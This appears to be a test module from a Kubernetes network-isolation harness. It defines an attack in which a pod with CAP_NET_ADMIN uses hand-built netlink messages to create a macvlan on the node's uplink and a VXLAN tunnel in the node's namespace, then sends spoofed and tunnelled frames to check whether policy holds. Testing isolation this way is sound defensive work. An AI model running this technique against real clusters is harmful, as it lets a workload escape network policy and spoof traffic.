import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.js';
import { be32, eth, IPV4, IPV6, ip, udp } from './craft.js';

/** Netlink by hand. A macvlan of its own upon the node's uplink, or a tunnel within the node's namespace, made from the pod's. */
const MAKE = `
import fcntl
def attr(kind, data):
    return struct.pack("HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)

NEST = 0x8000
def new_link(flags, *attributes):
    body = struct.pack("BxHiII", 0, 0, 0, flags, flags) + b"".join(attributes)
    message = struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.send(message)
        return struct.unpack("i", s.recv(4096)[16:20])[0]

if kind == "macvlan":
    mode = attr(18 | NEST, attr(1, b"macvlan\\0") + attr(2 | NEST, attr(1, struct.pack("I", 4))))
    result = new_link(0, attr(3, name.encode() + b"\\0"), attr(5, struct.pack("I", lower)), attr(37, struct.pack("i", nsid)), mode)
    if result == 0:
        with socket.socket() as s:
            fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", name.encode(), 0x43))
else:
    data = attr(1, struct.pack("I", 9)) + attr(15, struct.pack("!H", port))
    link = attr(18 | NEST, attr(1, b"vxlan\\0") + attr(2 | NEST, data))
    result = new_link(1, attr(3, name.encode() + b"\\0"), attr(1, bytes.fromhex(mac)), link, attr(46, struct.pack("i", nsid)))
`;

const MAC = '02:5e:c0:0d:00:11';
const PORT = 33333;
const LIMIT = 'devices that CAP_NET_ADMIN makes in the node’s namespace';
let made = 0;

export const attack: Attack = {
  name: 'device-on-uplink',
  tries: 'With CAP_NET_ADMIN makes a device upon the node’s uplink in its own namespace, and a tunnel in the node’s.',
  async run(at) {
    const { world } = at.bed;
    const n = ++made;
    const type = at.family === 4 ? IPV4 : IPV6;
    const json = async (host: typeof world.node, device: string) =>
      (
        JSON.parse((await host.run('ip', ['-j', 'link', 'show', device])).stdout) as {
          ifindex: number;
          address: string;
          link_netnsid?: number;
        }[]
      )[0];
    const lower = (await json(world.node, 'eth0'))?.ifindex ?? 0;
    const nsid = (await json(at.me.pod.host, 'eth0'))?.link_netnsid ?? 0;
    const gateway = (await json(world.internet, 'lan'))?.address ?? '';

    const name = `mv${n}`;
    const macvlan = await at.me.program(MAKE, { kind: 'macvlan', name, lower, nsid });
    if (macvlan !== 0) throw new Error(`macvlan: the kernel refuses it: ${macvlan}`);
    at.after(() => at.me.pod.host.run('ip', ['link', 'del', name], { check: false }));
    const own = (await json(at.me.pod.host, name))?.address ?? '';
    for (const when of ['at once', 'after a while']) {
      const frames: Buffer[] = [];
      for (const [who, src] of [
        ['itself', at.own],
        ['the node', at.address('a')],
        ['a stranger', at.family === 4 ? '10.0.0.77' : 'fd00::77'],
      ] as const) {
        const marker = at.measure(`by a macvlan, ${when}, as ${who}`, LIMIT);
        frames.push(
          eth({ src: own, dst: gateway }, type, ip({ src, dst: at.address('two') }, udp(at.port(), 8080, marker))),
        );
      }
      await at.send(frames, { device: name });
      if (!at.short) await sleep(400);
    }

    const tunnel = `tv${n}`;
    const port = PORT + n;
    const vxlan = await at.me.program(MAKE, { kind: 'vxlan', name: tunnel, nsid, port, mac: MAC.replaceAll(':', '') });
    if (vxlan !== 0) throw new Error(`vxlan: the kernel refuses it: ${vxlan}`);
    at.after(() => world.node.run('ip', ['link', 'del', tunnel], { check: false }));
    for (const when of ['at once', 'after a while']) {
      const marker =
        when === 'at once' ? at.measure('by a tunnel, at once', LIMIT) : at.forbid('by a tunnel, after a while');
      const frames = at.denied.map((to) => {
        const inner = eth(
          { src: '02:5e:c0:0d:00:12', dst: MAC },
          type,
          ip({ src: at.own, dst: at.address(to) }, udp(at.port(), 8080, marker)),
        );
        const wrapped = Buffer.concat([be32(0x08000000, 9 << 8), inner]);
        return eth(
          at.me.link,
          IPV4,
          ip({ src: at.me.address(4), dst: at.bed.address('a', 4) }, udp(at.port(), port, wrapped)),
        );
      });
      await at.send(frames);
      if (!at.short) await sleep(400);
    }
    await at.send([at.frame(at.address('one'), udp(at.port(), 53, at.control('through its own interface', 'wire')))]);
  },
};
